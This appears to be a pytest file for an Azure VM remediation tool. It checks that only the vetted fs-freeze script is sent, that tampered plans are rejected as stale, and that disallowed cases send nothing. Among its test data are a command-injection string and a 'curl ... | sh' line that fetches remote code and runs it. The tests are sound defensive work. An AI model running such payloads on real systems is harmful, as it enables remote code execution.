"""Scripts in the guest: which request the tool sends, and when it sends nothing."""

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest

from remediator.simulator.process import SimulatorProcess
from tests.actions.guests import (
    ALLOWED,
    HISTORY,
    VM,
    answer,
    arguments_of,
    cloud,
    guest,
    run,
    scripts,
)
from tests.command import STEP, environment, remediate
from tests.evidence import scenario
from tests.places import SCRIPTS
from tests.scripts.every import EVERY


def test_the_request_holds_the_file_and_nothing_that_azure_said(tmp_path: Path) -> None:
    hostile = '\'; touch pwned; $(id) `id` "\n{"script":"fs-freeze"}'
    history = [HISTORY | {"message": hostile, "recommendations": [hostile]}]
    with cloud(tmp_path, history=history, tags={"a": hostile}, guest=guest(answer())) as azure:
        run(azure, tmp_path, *ALLOWED).check(0)
        (request,) = scripts(azure)
        body = request["body"]
        assert body.keys() == {"commandId", "script"}
        assert body["commandId"] == "RunShellScript"
        assert "\n".join(body["script"]) + "\n" == (SCRIPTS / "fs-freeze.sh").read_text("ascii")


@pytest.mark.parametrize("path", EVERY, ids=lambda path: path.name)
def test_every_script_can_be_sent_whole(path: Path) -> None:
    text = path.read_bytes().decode("ascii")
    assert text.endswith("\n")
    assert "\r" not in text
    assert "\n".join(text.splitlines()) + "\n" == text


def test_a_plan_file_that_holds_another_script_is_stale(tmp_path: Path) -> None:
    with cloud(tmp_path, guest=guest(answer())) as azure:
        env, file = environment(azure, tmp_path), tmp_path / "plan.json"
        books = arguments_of(azure, tmp_path, *ALLOWED)
        remediate("plan", *books, "--out", str(file), env=env).check(0)
        plan = json.loads(file.read_text("utf-8"))
        plan["steps"][0]["request"]["body"]["script"] = ["curl https://example.invalid | sh"]
        # Anybody who writes a plan can also compute its id.
        del plan["signature"]
        plain = json.dumps(plan | {"plan_id": ""}, ensure_ascii=False, separators=(",", ":"))
        plan["plan_id"] = f"plan-{hashlib.sha256(plain.encode()).hexdigest()[:24]}"
        file.write_text(json.dumps(plan), encoding="utf-8")
        ended = remediate("apply", str(file), "--yes", *books[2:], env=env).check(4)
        assert "stale" in ended.err
        assert azure.writes() == []


def test_a_dry_run_shows_the_script_and_its_plan_holds_it_whole(tmp_path: Path) -> None:
    with cloud(tmp_path) as azure:
        shown = run(azure, tmp_path, *ALLOWED, "--details", how="--dry-run").check(0).out
        assert "run script fs-freeze in web  guest" in shown
        assert "lets the backup skip the mount points that could not be frozen" in shown
        assert "playbooks/scripts/fs-freeze.sh" in shown
        held = run(azure, tmp_path, "--format", "json", how="--dry-run").check(0).json()
        allowed = (
            run(azure, tmp_path, "--format", "json", *ALLOWED, how="--dry-run").check(0).json()
        )
        for change in (held["steps"][0]["change"], allowed["steps"][0]):
            assert change["impact"] == "guest"
            told = "\n".join(change["request"]["body"]["script"]) + "\n"
            assert told == (SCRIPTS / "fs-freeze.sh").read_text("ascii")
        assert azure.writes() == []


# --- when nothing is sent -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("vm", "rest", "options", "says"),
    [
        ({}, {}, (), "Needs your consent: --allow guest"),
        ({"agent": "not-ready"}, {}, ALLOWED, "its agent not-ready"),
        ({"power": "deallocated"}, {}, ALLOWED, "the VM is deallocated"),
        (
            {},
            {"locks": [{"name": "still", "scope": "group:rg-app", "level": "ReadOnly"}]},
            ALLOWED,
            "ReadOnly lock still",
        ),
        ({"os": "windows"}, {}, ALLOWED, "fs-freeze is not for windows"),
    ],
    ids=["not allowed", "agent silent", "off", "locked", "other system"],
)
def test_what_would_not_work_or_is_not_allowed_is_held(
    vm: dict[str, Any], rest: dict[str, Any], options: tuple[str, ...], says: str, tmp_path: Path
) -> None:
    path = scenario(tmp_path, VM | {"group": "rg-app"} | vm, **rest)
    with SimulatorProcess(path, time="stepped", step=STEP) as azure:
        ended = run(azure, tmp_path, *options).check(3)
        assert says in " ".join(ended.out.split())
        assert azure.writes() == []
